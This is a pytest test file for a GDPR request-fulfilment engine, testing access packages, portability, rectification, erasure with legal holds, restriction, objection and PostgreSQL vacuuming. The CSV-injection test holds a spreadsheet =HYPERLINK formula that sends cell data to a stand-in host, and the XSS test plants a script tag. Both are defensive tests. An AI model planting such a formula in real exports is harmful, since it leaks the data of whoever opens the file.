"""Fulfilment on the demo service: access, portability, rectification, erasure with legal
holds and proof, restriction, objection, withdrawal — and a wrong map or a dataset down."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from sqlalchemy import Engine, func, select, text

from demo_support import DEMO_NOW, OWNER, MovingClock, open_as_owner
from personvern.consent.events import EventType
from personvern.consent.service import decide_for, record_event
from personvern.consent.subjects import create_subject, get_subject, identities_of
from personvern.consent.tables import Identity, Subject
from personvern.errors import ConfigurationError, NotFound
from personvern.law import get_jurisdiction
from personvern.mail.tables import OutboxMessage
from personvern.manifest.model import RetentionRule
from personvern.requests.engine import (
    Context,
    Requests,
    get_request,
    lift_restriction,
    open_request,
    view,
)
from personvern.requests.erase import hold_until
from personvern.requests.proof import prove_erased
from personvern.requests.tables import RecipientNotice, RequestEvent
from personvern.runtime import Runtime, open_runtime
from personvern.settings import Settings
from personvern.storage.engine import create_engine_for
from personvern.storage.models import AuditEvent

NOW = DEMO_NOW
SERVICE_TABLES = ("users", "guardians", "sessions", "purchases", "invoices", "messages",
                  "login_events", "marketing_list")
opened = open_as_owner


@pytest.fixture
def app_db(service_db: Engine) -> Engine:
    return service_db


def service_counts(engine: Engine) -> dict[str, int]:
    with engine.connect() as conn:
        return {t: int(conn.execute(text(f"SELECT count(*) FROM {t}")).scalar() or 0)
                for t in SERVICE_TABLES}


def one(engine: Engine, sql: str, **params: Any) -> Any:
    with engine.connect() as conn:
        return conn.execute(text(sql), params).scalar()


# ---- access ----------------------------------------------------------------------------

def test_access_package_has_json_csv_and_art15_summary_and_no_one_elses_data(
        rt: Runtime, service: Requests, app_db: Engine, tmp_path: Path) -> None:
    rid = opened(rt, service, "access", "ext:31")  # a pupil: sessions, messages, a purchase
    result = service.run(rid, reason="identity checked", out_dir=tmp_path / "out")
    assert result.state == "completed"
    package = Path(result.outcome["package"]["path"])
    assert package.stat().st_mode & 0o777 == 0o600
    with zipfile.ZipFile(package) as zf:
        names = set(zf.namelist())
        data = json.loads(zf.read("data.json"))
        summary = zf.read("summary.html").decode()
        sessions_csv = zf.read("app/sessions.csv").decode()
    assert {"data.json", "summary.html", "app/users.csv", "app/sessions.csv",
            "app/messages.csv", "app/purchases.csv", "app/invoices.csv"} <= names
    rows = data["datasets"]["app"]
    assert [u["id"] for u in rows["users"]] == [31]
    # Every reference to another person's row is redacted: the mentor, the paying parent.
    assert {s["mentor_id"] for s in rows["sessions"]} == {"[redacted]"}
    assert {s["pupil_id"] for s in rows["sessions"]} == {31}
    assert {p["payer_id"] for p in rows["purchases"]} == {"[redacted]"}
    for m in rows["messages"]:
        assert 31 in (m["sender_id"], m["recipient_id"])
        assert "[redacted]" in (m["sender_id"], m["recipient_id"])
    assert "[redacted]" in sessions_csv
    with app_db.connect() as conn:
        others = conn.execute(text("SELECT email, phone FROM users WHERE id != 31")).all()
    blob = json.dumps(data) + summary + sessions_csv
    assert not [e for e, p in others if e in blob or (p and p in blob)]
    # Art. 15: purposes for a pupil, bases, recipients, retention, rights, complaint.
    assert "Timer og meldinger" in summary and "Brukerkonto" in summary
    assert "Regnskap" not in summary  # bookkeeping concerns parents (the payers)
    assert "Datatilsynet" in summary and "Driftsleverandør Norge AS" in summary
    assert "GDPR Art. 6(1)(b)" in summary and "dataportabilitet" in summary
    assert "to år etter siste innlogging" in summary
    info = data["information"]
    assert info["complaint"]["authority"] == "Datatilsynet"
    assert data["personvern"]["identities"]
    with rt.transaction() as s:
        assert get_request(s, rid).outcome["redacted"] > 0  # type: ignore[index]


def test_the_access_package_offered_is_the_file_written_whole_and_its_members_private(
        rt: Runtime, service: Requests, tmp_path: Path) -> None:
    """data.json is streamed into the zip as it is encoded (docs/performance.md): it is the
    same readable JSON a one-piece write gave, each member readable by its owner only and
    dated when written, and the SHA-256 offered for the download is the whole file's."""
    import hashlib
    import time

    rid = opened(rt, service, "access", "ext:31")
    result = service.run(rid, reason="identity checked", out_dir=tmp_path)
    facts = result.outcome["package"]
    data = Path(facts["path"]).read_bytes()
    assert facts["sha256"] == hashlib.sha256(data).hexdigest()
    assert facts["bytes"] == len(data)
    with zipfile.ZipFile(facts["path"]) as zf:
        assert zf.testzip() is None
        text_json = zf.read("data.json").decode()
        members = zf.infolist()
    document = json.loads(text_json)
    assert text_json == json.dumps(document, ensure_ascii=False, indent=2)
    this_year = time.localtime().tm_year
    assert {(m.external_attr >> 16) & 0o777 for m in members} == {0o600}
    assert {m.date_time[0] for m in members} == {this_year}
    assert {m.compress_type for m in members} == {zipfile.ZIP_DEFLATED}


def test_access_in_english_and_the_summary_escapes_html(rt: Runtime, service: Requests,
                                                        app_db: Engine, tmp_path: Path) -> None:
    with app_db.begin() as conn:
        conn.execute(text("UPDATE users SET name = '<script>x</script>' WHERE id = 12"))
    rid = opened(rt, service, "access", "ext:12")
    result = service.run(rid, reason="identity checked", out_dir=tmp_path, lang="en")
    with zipfile.ZipFile(result.outcome["package"]["path"]) as zf:
        summary = zf.read("summary.html").decode()
        users = zf.read("app/users.csv").decode()
    assert "Your rights" in summary and "Bookkeeping" in summary
    assert "<script>" in users and "<script>" not in summary


def test_a_formula_in_the_persons_data_is_text_in_the_csv_and_exact_in_the_json(
        rt: Runtime, service: Requests, app_db: Engine, tmp_path: Path) -> None:
    """OWASP CSV injection: a spreadsheet would run =HYPERLINK(...) someone wrote."""
    formula = '=HYPERLINK("https://evil.example/?q="&A1,"Klikk")'
    with app_db.begin() as conn:
        conn.execute(text("UPDATE users SET name = :n WHERE id = 13"), {"n": formula})
    rid = opened(rt, service, "access", "ext:13")
    result = service.run(rid, reason="identity checked", out_dir=tmp_path)
    with zipfile.ZipFile(result.outcome["package"]["path"]) as zf:
        users = list(csv.DictReader(io.StringIO(zf.read("app/users.csv").decode())))
        data = json.loads(zf.read("data.json"))
    assert [u["name"] for u in users] == ["'" + formula]
    assert not any(v.startswith(("=", "+", "-", "@")) for u in users for v in u.values() if v)
    assert [u["name"] for u in data["datasets"]["app"]["users"]] == [formula]


def test_an_erasure_recorded_only_on_its_second_run_still_counts_what_the_first_did(
        rt: Runtime, service: Requests, monkeypatch: pytest.MonkeyPatch) -> None:
    """The service commits before the engine records (two databases): a run stopped in
    between is run again, finds the rows gone, and must still tell what was deleted."""
    from personvern.requests import fulfil

    real = fulfil.finish
    calls = {"n": 0}

    def stopped_once(*args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 1:
            raise OSError("the engine's disk went away")
        return real(*args, **kwargs)

    monkeypatch.setattr(fulfil, "finish", stopped_once)
    rid = opened(rt, service, "erasure", "ext:22")
    with pytest.raises(OSError):
        service.run(rid, reason="identity checked")
    with rt.transaction() as s:
        waiting = get_request(s, rid)
        assert waiting.state == "waiting"
        intended = dict((waiting.outcome or {})["intended"])
    assert intended["deleted"]  # the first run deleted these, then stopped
    done = service.run(rid, reason="the disk is back").outcome
    assert done["deleted"] == intended["deleted"] and "intended" not in done


# ---- portability --------------------------------------------------------------------------

def test_portability_exports_what_the_person_provided(rt: Runtime, service: Requests,
                                                      tmp_path: Path) -> None:
    rid = opened(rt, service, "portability", "ext:31")
    result = service.run(rid, reason="identity checked", out_dir=tmp_path)
    export = json.loads(Path(result.outcome["export"]["path"]).read_text())
    app = export["data"]["app"]
    assert set(app) == {"users", "messages"}
    assert set(app["users"][0]) == {"email", "phone", "name", "birth_date", "address"}
    assert set(app["messages"][0]) == {"body"}
    assert "login_events" not in app and "invoices" not in app  # observed, or legal obligation


# ---- rectification ------------------------------------------------------------------------

def test_rectification_updates_service_and_engine_and_audits_no_old_value(
        rt: Runtime, service: Requests, app_db: Engine) -> None:
    old = one(app_db, "SELECT email FROM users WHERE id = 15")
    rid = opened(rt, service, "rectification", "ext:15", details={"changes": {
        "users.email": "Ny.Adresse@Example.no", "app.users.phone": "912 34 567",
        "users.birth_date": "1980-02-29"}})
    result = service.run(rid, reason="identity checked")
    assert result.state == "completed"
    assert one(app_db, "SELECT email FROM users WHERE id = 15") == "ny.adresse@example.no"
    assert one(app_db, "SELECT phone FROM users WHERE id = 15") == "+4791234567"
    assert str(one(app_db, "SELECT birth_date FROM users WHERE id = 15")) == "1980-02-29"
    with rt.transaction() as s:
        subject = get_subject(s, "ny.adresse@example.no")
        assert subject.id == get_subject(s, "ext:15").id
        assert {i.value for i in identities_of(s, subject.id)} >= {
            "ny.adresse@example.no", "+4791234567"}
        trail = json.dumps([a.details for a in s.scalars(select(AuditEvent))])
        assert old not in trail and "ny.adresse" not in trail
        notices = s.scalars(select(RecipientNotice).where(RecipientNotice.request_id == rid))
        assert {n.recipient for n in notices} == {"hosting"}  # the account's recipient


# ---- erasure ------------------------------------------------------------------------------

def test_hold_until_is_five_years_after_the_fiscal_year() -> None:
    books = RetentionRule(id="books", trigger="fiscal_year_end", duration="5 years",
                          bookkeeping=True)
    j = get_jurisdiction("NO")
    assert hold_until(books, j, date(2025, 3, 10)) == date(2030, 12, 31)
    assert hold_until(books, j, date(2025, 12, 31)) == date(2030, 12, 31)
    logs = RetentionRule(id="logs", trigger="collected", duration="6 months")
    assert hold_until(logs, j, date(2026, 8, 31)) == date(2027, 2, 28)
    assert hold_until(books, j, None) is None


def test_erasure_deletes_masks_keeps_the_books_and_proves_it(
        rt: Runtime, service: Requests, app_db: Engine) -> None:
    parent = 8  # pays for pupils 31 and 54
    with app_db.begin() as conn:
        purchases = [r[0] for r in conn.execute(
            text("SELECT id FROM purchases WHERE payer_id = :p ORDER BY id"), {"p": parent})]
        assert len(purchases) == 2
        recent, old = purchases
        conn.execute(text("UPDATE purchases SET purchased_at = '2025-06-01 10:00:00' "
                          "WHERE id = :i"), {"i": recent})
        conn.execute(text("UPDATE invoices SET issued_on = '2025-06-02' WHERE purchase_id = :i"),
                     {"i": recent})
        # The old purchase's own hold has ended, but its invoice (2022) is still held:
        conn.execute(text("UPDATE purchases SET purchased_at = '2019-03-01 10:00:00' "
                          "WHERE id = :i"), {"i": old})
        conn.execute(text("UPDATE invoices SET issued_on = '2022-01-10' WHERE purchase_id = :i"),
                     {"i": old})
    email = one(app_db, "SELECT email FROM users WHERE id = :p", p=parent)
    with rt.transaction() as s:
        subject_id = get_subject(s, f"ext:{parent}").id
    rid = opened(rt, service, "erasure", f"ext:{parent}")
    result = service.run(rid, reason="identity checked")
    out = result.outcome
    assert result.state == "completed"
    # Deleted and masked per the map.
    assert one(app_db, "SELECT count(*) FROM guardians WHERE guardian_id = :p", p=parent) == 0
    assert one(app_db, "SELECT count(*) FROM login_events WHERE user_id = :p", p=parent) == 0
    row = app_db.connect().execute(text("SELECT * FROM users WHERE id = :p"), {"p": parent})
    user = row.mappings().one()
    assert user["email"].startswith("slettet-") and user["email"] != email
    assert user["birth_date"] is None and user["last_login_at"] is None
    assert user["name"].startswith("slettet-") and user["role"] == "parent"
    # Kept: both invoices and both purchases, each until the end of its hold.
    kept = {(k["table"], k["until"]): k for k in out["kept"]}
    assert set(kept) == {("invoices", "2027-12-31"), ("invoices", "2030-12-31"),
                         ("purchases", "2030-12-31"), ("purchases", "2027-12-31")}
    assert "bokføringsloven § 13" in kept[("invoices", "2030-12-31")]["why"]
    assert "needed by the kept invoices rows" in kept[("purchases", "2027-12-31")]["why"]
    assert one(app_db, "SELECT count(*) FROM purchases WHERE payer_id = :p", p=parent) == 2
    # The engine forgot the person; the proof found nothing unexpected.
    assert out["proof"]["clean"] is True and out["proof"]["engine"] == []
    assert [f["column"] for f in out["proof"]["expected"]] == ["id"]
    with rt.transaction() as s:
        assert s.scalar(select(func.count()).select_from(Identity).where(
            Identity.subject_id == subject_id)) == 0
        assert s.get(Subject, subject_id).erased_at is not None  # type: ignore[union-attr]
        with pytest.raises(NotFound):
            get_subject(s, email)
        req = get_request(s, rid)
        assert req.state == "completed" and "2030-12-31" in json.dumps(req.outcome)
        notices = {n.recipient for n in s.scalars(select(RecipientNotice))}
        assert notices == {"hosting", "vipps"}  # a parent's purposes include payment
        from personvern.mail.tables import OutboxMessage

        letter = s.scalars(select(OutboxMessage).where(
            OutboxMessage.kind == "request_completed")).one()
        assert letter.to_address == email and "2030-12-31" in letter.body_text


def test_erasure_of_a_hold_that_ended_deletes_the_rows(rt: Runtime, service: Requests,
                                                      app_db: Engine) -> None:
    parent = 9
    with app_db.begin() as conn:
        conn.execute(text("UPDATE purchases SET purchased_at = '2018-01-01 00:00:00' "
                          "WHERE payer_id = :p"), {"p": parent})
        conn.execute(text("UPDATE invoices SET issued_on = '2018-01-02' WHERE purchase_id IN "
                          "(SELECT id FROM purchases WHERE payer_id = :p)"), {"p": parent})
    result = service.run(opened(rt, service, "erasure", f"ext:{parent}"), reason="identity checked")
    assert result.outcome["kept"] == []
    assert one(app_db, "SELECT count(*) FROM purchases WHERE payer_id = :p", p=parent) == 0


def test_proof_reports_a_copy_the_map_does_not_know(rt: Runtime, service: Requests,
                                                    app_db: Engine) -> None:
    email = one(app_db, "SELECT email FROM users WHERE id = 20")
    with app_db.begin() as conn:
        conn.execute(text("CREATE TABLE support_tickets (id INTEGER PRIMARY KEY, body TEXT)"))
        conn.execute(text("INSERT INTO support_tickets VALUES (1, :b)"),
                     {"b": f"Kunden {email.upper()} ringte"})
    result = service.run(opened(rt, service, "erasure", "ext:20"), reason="identity checked")
    proof = result.outcome["proof"]
    assert proof["clean"] is False
    assert proof["unexpected"] == [{
        "dataset": "app", "table": "support_tickets", "column": "body", "key": "1",
        "kind": "email", "expected": False, "why": "table not in the data map"}]
    assert email not in json.dumps(result.outcome)


def test_proof_alone_finds_what_is_still_there(service: Requests, app_db: Engine) -> None:
    email = one(app_db, "SELECT email FROM users WHERE id = 25")
    proof = prove_erased(service.datasets(), {"external_id": ["25"], "email": [email]})
    assert not proof.clean
    assert {(f.table, f.column, f.expected) for f in proof.findings} == {
        ("users", "id", True), ("users", "email", False)}


# ---- restriction, objection, withdrawal ----------------------------------------------------

def test_restriction_denies_every_use_but_storage_until_lifted(
        rt: Runtime, service: Requests, clock: MovingClock) -> None:
    # The decision itself learns of the restriction (DecisionSources), nothing wrapped.
    decide = decide_for
    with rt.transaction() as s:
        sid = get_subject(s, "ext:16").id
        assert decide(s, rt.consent, sid, "account", NOW).allowed
    rid = opened(rt, service, "restriction", "ext:16")
    assert service.run(rid, reason="identity checked").state == "completed"
    with rt.transaction() as s:
        for purpose in ("account", "bookkeeping", "security", "payment"):
            d = decide(s, rt.consent, sid, purpose, NOW)
            assert not d.allowed and d.code == "restricted" and "Art. 18" in d.reason
        assert {n.action for n in s.scalars(select(RecipientNotice))} == {"restriction"}
        lift_restriction(s, service.ctx, rid, "the accuracy is confirmed")
    with rt.transaction() as s:
        assert decide(s, rt.consent, sid, "account", NOW).allowed


def test_objection_is_a_ledger_event_and_decisions_follow(rt: Runtime,
                                                          service: Requests) -> None:
    rid = opened(rt, service, "objection", "ext:17", details={"purpose": "security"})
    result = service.run(rid, reason="identity checked")
    assert result.outcome["objected"] == ["security"]
    with rt.transaction() as s:
        d = decide_for(s, rt.consent, get_subject(s, "ext:17").id, "security", NOW)
        assert not d.allowed and d.code == "objected"


def test_withdrawal_of_consent(rt: Runtime, service: Requests, clock: MovingClock) -> None:
    with rt.transaction() as s:
        sid = get_subject(s, "ext:18").id
        record_event(s, rt.consent, NOW, sid, EventType.CONSENT_GIVEN, purpose_id="newsletter")
    clock.at = datetime(2027, 1, 5, 12, tzinfo=UTC)
    rid = opened(rt, service, "withdrawal", "ext:18")
    assert service.run(rid, reason="identity checked").outcome["withdrawn"] == ["newsletter"]
    with rt.transaction() as s:
        d = decide_for(s, rt.consent, sid, "newsletter", clock.at)
        assert d.code == "consent_withdrawn"


def _completion_letter(rt: Runtime, rid: str) -> str:
    with rt.transaction() as s:
        [body] = s.scalars(select(OutboxMessage.body_text).where(
            OutboxMessage.dedupe_key.contains(rid), OutboxMessage.kind == "request_completed"))
    return body


def test_a_rectification_that_found_nothing_to_correct_does_not_say_carried_out(
        rt: Runtime, service: Requests) -> None:
    """GDPR Art. 16, 12(1): a person told "carried out" believes their data was corrected;
    where no row of theirs held the column, the letter says nothing was changed, and
    where some did, which were corrected and which held nothing."""
    with rt.transaction() as s:
        create_subject(s, lambda: NOW, {"email": "ingen.konto@example.no"})
    rid = opened(rt, service, "rectification", "ingen.konto@example.no",
                 details={"changes": {"users.email": "ny@example.no"}})
    result = service.run(rid, reason="identity checked")
    assert result.state == "completed"
    letter = _completion_letter(rt, rid)
    assert "carried out" not in letter
    assert letter.startswith("Forespørselen din er behandlet, men ingenting ble endret. "
                             "Your request has been handled, but nothing was changed:")
    assert "nothing found to correct in users.email" in letter
    with rt.transaction() as s:
        notes = list(s.scalars(select(RequestEvent.note).where(
            RequestEvent.request_id == rid, RequestEvent.to_state == "completed")))
    # Art. 19 tells recipients of a rectification carried out: none was, nobody is told.
    assert notes == ["nothing found to correct in users.email"]
    with rt.transaction() as s:
        assert not s.scalars(select(RecipientNotice)
                             .where(RecipientNotice.request_id == rid)).all()

    rid = opened(rt, service, "rectification", "ext:15", details={"changes": {
        "users.email": "Ny.Adresse@Example.no"}})
    service.run(rid, reason="identity checked")
    letter = _completion_letter(rt, rid)
    assert letter.startswith("Forespørselen din er behandlet. Your request has been carried out.")
    assert "rectified users.email (1 row)" in letter


def test_a_withdrawal_recorded_for_nothing_says_why_and_not_carried_out(
        rt: Runtime, service: Requests, clock: MovingClock) -> None:
    """GDPR Art. 7(3), 12(1): a withdrawal whose every purpose was skipped (consent already
    withdrawn in the portal meanwhile) is not "carried out": the letter says what was not
    recorded and why, not "consent withdrawn for nothing"."""
    with rt.transaction() as s:
        sid = get_subject(s, "ext:18").id
        record_event(s, rt.consent, NOW, sid, EventType.CONSENT_GIVEN, purpose_id="newsletter")
    clock.at = datetime(2027, 1, 5, 12, tzinfo=UTC)
    rid = opened(rt, service, "withdrawal", "ext:18", details={"purpose": "newsletter"})
    with rt.transaction() as s:  # withdrawn in the portal before the request runs
        record_event(s, rt.consent, clock.at, sid, EventType.CONSENT_WITHDRAWN,
                     purpose_id="newsletter")
    result = service.run(rid, reason="identity checked")
    assert result.outcome["withdrawn"] == [] and result.outcome["skipped"]
    letter = _completion_letter(rt, rid)
    assert "carried out" not in letter and "for nothing" not in letter
    assert "nothing was changed:" in letter
    assert "not recorded for newsletter: " in letter


# ---- a wrong data map, a dataset that is down ---------------------------------------------

def _manifest(demo: Path, change: Any) -> None:
    path = demo / "personvern.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data["datasets"][0])
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")


def _reopen(demo: Path, clock: MovingClock) -> tuple[Runtime, Requests]:
    runtime = open_runtime(Settings(manifest=demo / "personvern.yaml",
                                    database_url=f"sqlite:///{demo / 'personvern.db'}"), clock)
    return runtime, Requests(runtime.sessions, Context(runtime.consent, clock))


def test_a_map_naming_a_missing_column_keeps_the_request(
        demo: Path, rt: Runtime, service: Requests, clock: MovingClock, app_db: Engine) -> None:
    rid = opened(rt, service, "erasure", "ext:19")
    before = service_counts(app_db)
    good = (demo / "personvern.yaml").read_text(encoding="utf-8")
    _manifest(demo, lambda ds: ds["tables"][0]["columns"].append({"name": "shoe_size"}))
    broken_rt, broken = _reopen(demo, clock)
    try:
        with pytest.raises(ConfigurationError, match=r"users\.shoe_size"):
            broken.run(rid, reason="identity checked")
    finally:
        broken.close()
        broken_rt.close()
    assert service_counts(app_db) == before
    with rt.transaction() as s:
        req = get_request(s, rid)
        assert req.state == "waiting" and "shoe_size" in req.outcome["error"]  # type: ignore[index]
    (demo / "personvern.yaml").write_text(good, encoding="utf-8")
    assert service.run(rid, reason="identity checked").state == "completed"


def test_a_dataset_that_is_down_leaves_the_request_waiting(
        demo: Path, rt: Runtime, clock: MovingClock, monkeypatch: pytest.MonkeyPatch) -> None:
    _manifest(demo, lambda ds: (ds.pop("url"), ds.update(url_env="DEMO_APP_URL")))
    down_url = f"sqlite:///{demo / 'not-a-database.db'}"
    (demo / "not-a-database.db").write_bytes(b"this is not SQLite" * 100)
    monkeypatch.setenv("DEMO_APP_URL", down_url)
    runtime, svc = _reopen(demo, clock)
    try:
        with runtime.transaction() as s:
            rid = open_request(s, svc.ctx, "access", subject="ext:22", by=OWNER).request.id
        first = svc.run(rid, reason="identity checked", out_dir=demo)
        assert first.state == "waiting" and "file is not a database" in (first.error or "")
        with runtime.transaction() as s:
            req = get_request(s, rid)
            assert req.state == "waiting" and "could not be reached" in req.outcome["error"]  # type: ignore[index]
        monkeypatch.setenv("DEMO_APP_URL", f"sqlite:///{demo / 'service.db'}")
        again = svc.run(rid, reason="identity checked", out_dir=demo)
        assert again.state == "completed" and again.outcome["rows"]["app.users"] == 1
        with runtime.transaction() as s:
            states = [e["to"] for e in view(s, svc.ctx, get_request(s, rid))["events"]]
        assert states == ["received", "verified", "in_progress", "waiting", "in_progress",
                          "completed"]
    finally:
        svc.close()
        runtime.close()


# ---- PostgreSQL: the service and the engine both on PostgreSQL ----------------------------

def test_access_and_erasure_on_postgresql(pg_demo: Runtime, clock: MovingClock,
                                          tmp_path: Path) -> None:
    svc = Requests(pg_demo.sessions, Context(pg_demo.consent, clock))
    try:
        access = opened(pg_demo, svc, "access", "ext:30")
        result = svc.run(access, reason="identity checked", out_dir=tmp_path)
        assert result.state == "completed" and result.outcome["rows"]["app.users"] == 1
        erasure = opened(pg_demo, svc, "erasure", "ext:30")
        done = svc.run(erasure, reason="identity checked")
        assert done.state == "completed" and done.outcome["proof"]["clean"] is True
        assert done.outcome["deleted"]
        # PostgreSQL keeps the erased rows' bytes until VACUUM FULL: said, not hidden.
        left = done.outcome["left_until_vacuum"]["app"]
        assert "users" in left and set(left) <= {t.split(".", 1)[1] for t in
                                                 {**done.outcome["deleted"],
                                                  **done.outcome["changed"]}}
    finally:
        svc.close()


def _pg_files_hold(pg_cluster: Any, url: str, tables: list[str], value: str) -> bool:
    """Whether the on-disk files of ``tables`` (with their indexes and TOAST) hold ``value``."""
    engine = create_engine_for(url)
    try:
        with engine.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
            conn.exec_driver_sql("CHECKPOINT")  # what is in shared buffers, on disk
            paths = conn.execute(text(
                "SELECT pg_relation_filepath(c.oid) FROM pg_class c "
                "WHERE c.oid IN (SELECT unnest(ARRAY[t.oid, t.reltoastrelid]) FROM pg_class t "
                "                WHERE t.relname = ANY(:names)) "
                "   OR c.oid IN (SELECT indexrelid FROM pg_index i JOIN pg_class t "
                "                ON t.oid = i.indrelid WHERE t.relname = ANY(:names))"),
                {"names": tables}).scalars().all()
    finally:
        engine.dispose()
    needle = value.encode()
    return any(needle in f.read_bytes() for p in paths if p
               for f in Path(pg_cluster.datadir).glob(f"{p}*") if f.is_file())


@pytest.mark.postgres
def test_vacuum_leaves_no_byte_of_an_erasure_in_postgresql_files(
        pg_demo: Runtime, pg_cluster: Any, clock: MovingClock) -> None:
    """Without --vacuum the deleted rows' bytes stay in the table files (said in the
    outcome); with it, the touched tables are rewritten and hold none of them."""
    svc = Requests(pg_demo.sessions, Context(pg_demo.consent, clock))
    url = next(ds.url for ds in pg_demo.loaded.manifest.datasets if ds.url)
    try:
        engine = create_engine_for(url)
        with engine.connect() as conn:
            first, second = (conn.execute(text("SELECT email FROM users WHERE id = :i"),
                                          {"i": i}).scalar_one() for i in (30, 31))
        engine.dispose()
        kept = svc.run(opened(pg_demo, svc, "erasure", "ext:30"), reason="identity checked")
        left = kept.outcome["left_until_vacuum"]["app"]
        assert _pg_files_hold(pg_cluster, url, left, first)  # honest: still on disk
        done = svc.run(opened(pg_demo, svc, "erasure", "ext:31"), reason="identity checked",
                       vacuum=True)
        assert done.state == "completed" and "left_until_vacuum" not in done.outcome
        touched = sorted({t.split(".", 1)[1] for t in {**done.outcome["deleted"],
                                                         **done.outcome["changed"]}})
        assert "users" in touched and not _pg_files_hold(pg_cluster, url, touched, second)
    finally:
        svc.close()


@pytest.mark.postgres
def test_a_sweep_with_vacuum_leaves_no_byte_in_postgresql_files(
        pg_demo: Runtime, pg_cluster: Any) -> None:
    """retention run --vacuum: the tables swept are rewritten; the report says nothing stays."""
    from personvern import retention

    url = next(ds.url for ds in pg_demo.loaded.manifest.datasets if ds.url)
    engine = create_engine_for(url)
    with engine.connect() as conn:
        before = set(conn.execute(text("SELECT email FROM users")).scalars())
    far = datetime(2045, 1, 1, tzinfo=UTC)
    _, data = retention.run(pg_demo.loaded, pg_demo.sessions, far, reason="a test sweep",
                            vacuum=True)
    with engine.connect() as conn:
        gone = before - set(conn.execute(text("SELECT email FROM users")).scalars())
    engine.dispose()
    assert gone, "the sweep twenty years on deletes some users"
    assert data["left_until_vacuum"] == {}
    swept = sorted({t["table"] for rule in data["rules"] for t in rule["tables"]})
    assert "users" in swept
    assert not any(_pg_files_hold(pg_cluster, url, swept, email) for email in sorted(gone)[:5])
